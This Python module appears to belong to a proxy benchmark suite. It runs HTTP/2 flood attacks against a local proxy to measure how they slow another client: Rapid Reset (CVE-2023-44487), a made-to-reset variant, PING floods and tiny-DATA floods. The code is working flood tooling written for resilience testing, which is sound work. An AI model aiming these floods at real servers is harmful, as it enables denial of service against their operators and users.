"""HTTP/2 floods by one client, for what another client's latency is beside them.

A flood runs as a program of its own (``python -m benchmarks.floods PORT NAME``) that the kernel
lets run only when the core has nothing else to do (SCHED_IDLE), so that what the other client waits
for is the proxy. It sends as fast as the proxy takes it, reads all that comes, and when the proxy
has closed it comes again half a second later: whoever opens connections without a pause makes
handshakes, and that is another attack.
"""

from __future__ import annotations

import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Final

import hpack

from benchmarks.clients import ClientFailure, connect
from benchmarks.peers import HOST, client_context

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
_FRAMES: Final = 20_000
"""Of one connection: more than any proxy here takes before it closes."""
_PIECE: Final = 64 * 1024
_PAUSE: Final = 0.5
_ONE_FLOOD: Final = 5.0
"""Seconds after which the next connection is opened, where nobody closes this one."""
_LONGEST: Final = 60.0
"""Seconds after which a flood ends, whatever became of the one who started it."""
_ADDRESS: Final = "127.0.0.9"
"""Not the other client's: connections are counted by address."""

_DATA, _HEADERS, _RST_STREAM, _PING, _WINDOW_UPDATE = 0, 1, 3, 6, 8
_END_STREAM, _END_HEADERS = 1, 4


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!HBBBL", len(payload) >> 8, len(payload) & 255, kind, flags, stream) + (
        payload
    )


def _block(method: str) -> bytes:
    # Without a dynamic table the block is the same on every stream.
    fields = [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", "/")]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])


def _requests() -> Iterator[tuple[int, bytes]]:
    block = _block("GET")
    for number in range(1, 2 * _FRAMES, 2):
        yield number, _frame(_HEADERS, _END_HEADERS | _END_STREAM, number, block)


def _rapid_reset() -> bytes:
    """CVE-2023-44487: each request is reset in the same breath."""
    cancel = struct.pack("!L", 8)
    return b"".join(head + _frame(_RST_STREAM, 0, n, cancel) for n, head in _requests())


def _made_to_reset() -> bytes:
    """CVE-2025-8671: each request is followed by what the server must reset it for."""
    return b"".join(head + _frame(_WINDOW_UPDATE, 0, n, bytes(4)) for n, head in _requests())


def _many_requests() -> bytes:
    """No flood, for most of them are answered: a client that wants very much at once."""
    return b"".join(head for _, head in _requests())


def _tiny_data() -> bytes:
    """One octet in each DATA frame."""
    opening = _frame(_HEADERS, _END_HEADERS, 1, _block("POST"))
    return opening + _frame(_DATA, 0, 1, b"x") * _FRAMES


def _pings() -> bytes:
    """CVE-2019-9512."""
    return _frame(_PING, 0, 0, bytes(8)) * _FRAMES


FLOODS: Final[dict[str, Callable[[], bytes]]] = {
    "rapid-reset": _rapid_reset,
    "made-to-reset": _made_to_reset,
    "many-requests": _many_requests,
    "tiny-data": _tiny_data,
    "pings": _pings,
}


SERVED: Final = frozenset({"many-requests"})
"""What is served, and not ended: shown, and not judged."""


@contextmanager
def flooded(port: int, name: str) -> Iterator[None]:
    """A flood under way."""
    program = subprocess.Popen(
        [sys.executable, "-m", __spec__.name, str(port), name], stdout=subprocess.PIPE, text=True
    )
    try:
        assert program.stdout is not None
        if not program.stdout.readline():
            raise ClientFailure(f"the flood {name} did not begin")
        yield
    finally:
        program.kill()
        program.communicate()


def _flood(port: int, name: str) -> None:
    frames = memoryview(_PREFACE + FLOODS[name]())
    end = time.monotonic() + _LONGEST
    print("begun", flush=True)
    while time.monotonic() < end:
        _send(port, frames, min(end, time.monotonic() + _ONE_FLOOD))
        time.sleep(_PAUSE)


def _send(port: int, frames: memoryview, end: float) -> None:
    """One connection, until the proxy closes it."""
    try:
        with connect(port, client_context("h2"), source=_ADDRESS) as secure:
            secure.setblocking(False)
            position = 0
            while time.monotonic() < end:
                waits = []
                try:
                    if position < len(frames):
                        position += secure.send(frames[position : position + _PIECE])
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    waits = [secure]
                try:
                    if not secure.recv(_PIECE):
                        return
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    if position == len(frames) or waits:
                        select.select([secure], waits, [], 0.1)
    except (OSError, ssl.SSLError):
        return  # that is how a flood may end


if __name__ == "__main__":
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    socket.setdefaulttimeout(10)
    _flood(int(sys.argv[1]), sys.argv[2])
